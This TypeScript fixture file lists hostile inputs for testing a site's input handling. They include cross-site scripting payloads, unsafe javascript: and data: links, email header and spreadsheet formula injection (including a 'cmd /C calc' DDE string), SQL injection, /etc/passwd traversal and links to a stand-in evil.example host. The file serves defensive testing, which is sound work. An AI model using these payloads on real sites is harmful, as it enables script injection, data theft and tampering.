/** What attackers write where a text, an address or a file is expected. Each would call `alert` if it ran. */

const RUN = 'alert(1)';

/** For texts. `<tilts-mark>` is a tag that no element makes. */
export const TEXTS = [
  ...[
    `<script>${RUN}</script>`,
    `</script><script>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    `"><img src=x onerror=${RUN}>`,
    `'><svg onload=${RUN}>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><script href=data:,${RUN} />`,
    `<math><mtext><mglyph><style><!--</style><img title="--><img src onerror=${RUN}>">`,
    `<iframe srcdoc="<script>parent.${RUN}</script>">`,
    `<iframe src=javascript:${RUN}>`,
    `<object data=javascript:${RUN}>`,
    `<embed src=//evil.example/x.swf>`,
    `<a href="javascript:${RUN}">x</a>`,
    `<form action=javascript:${RUN}><button>x</button></form>`,
    `<details open ontoggle=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<body onload=${RUN}>`,
    `<base href=//evil.example/>`,
    `<meta http-equiv=refresh content="0;url=//evil.example/">`,
    `<link rel=stylesheet href=//evil.example/x.css>`,
    `<style>@import '//evil.example/x.css';*{display:none}</style>`,
    `<template shadowrootmode=open><script>${RUN}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<!--><script>${RUN}</script-->`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<tilts-mark onclick=${RUN} style=position:fixed>`,
  ],
  ...[
    `" onmouseover=${RUN} x="`,
    `' onfocus=${RUN} autofocus x='`,
    '` onload=x `',
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#60;img src=x onerror=${RUN}&#62;`,
    `\\u003cscript\\u003e${RUN}`,
    `%3Cscript%3E${RUN}%3C/script%3E`,
    '${' + RUN + '}',
    '`+' + RUN + '+`',
    `{{constructor.constructor('${RUN}')()}}`,
    `<%= ${RUN} %>`,
    `lit$1$ <!--?lit$1$--> ?lit$`,
    `;}*{background:url(//evil.example/x)}`,
    `red;background-image:url(//evil.example/x)`,
    `expression(${RUN})`,
    `javascript:${RUN}`,
  ],
  ...[
    'x\r\nBcc: all@evil.example\r\n\r\nx',
    'x%0d%0aBcc:all@evil.example',
    'x\r\nEND:VEVENT\r\nBEGIN:VEVENT',
    `=HYPERLINK("//evil.example","x")`,
    `=cmd|' /C calc'!A0`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    '+1+1',
    '-1+1',
    '\t=1+1',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    '[object Object]',
    'null',
    '../../../etc/passwd',
    "' OR 1=1; DROP TABLE applications; --",
  ],
  ...[
    'a\u202egpj.exe\u202c',
    '\u2066x\u2069\u200b\u200d\ufeff',
    'Z\u0351\u0352\u0353'.repeat(30),
    'x\0y',
    '\ud800x',
    '\u2028\u2029',
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿👩‍👩‍👧‍👦',
    'ļoti'.repeat(800),
    'x'.repeat(3000),
    `${'<b>'.repeat(200)}x`,
  ],
];

/** Addresses that no link may have. */
export const UNSAFE_LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://x.example/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN} xmlns="http://www.w3.org/2000/svg"/>`,
  `blob:https://x.example/1`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `/\\evil.example/x`,
  `\\\\evil.example\\x`,
  `https:javascript:${RUN}`,
  `https://\u202eelpmaxe.live/ x`,
];

/** Addresses that are one, and would be more if they were put into a page as markup. */
export const ODD_LINKS = [
  `https://x.example/"onmouseover="${RUN}`,
  `https://x.example/'><script>${RUN}</script>`,
  `https://x.example/#javascript:${RUN}`,
  `HTTPS://x.example/?q=<img/src/onerror=${RUN}>`,
  'https://x.example/\u202e%00%0d%0aSet-Cookie:x',
  'https://a:b@x.example/$' + '{x}',
];

/** Addresses of pictures and files on the site itself. */
export const ODD_FILES = [
  `/feed.json?"onerror="${RUN}`,
  `/feed.json?'><script>${RUN}</script>`,
  `/feed.json#javascript:${RUN}`,
];

/** An address for post that would also be a subject, or a copy to somebody else. */
export const ODD_EMAILS = [
  'a?bcc=all@evil.example',
  'a&body=x@evil.example',
  'a%0d%0aBcc:x@evil.example',
  "a'onclick='x@evil.example",
];
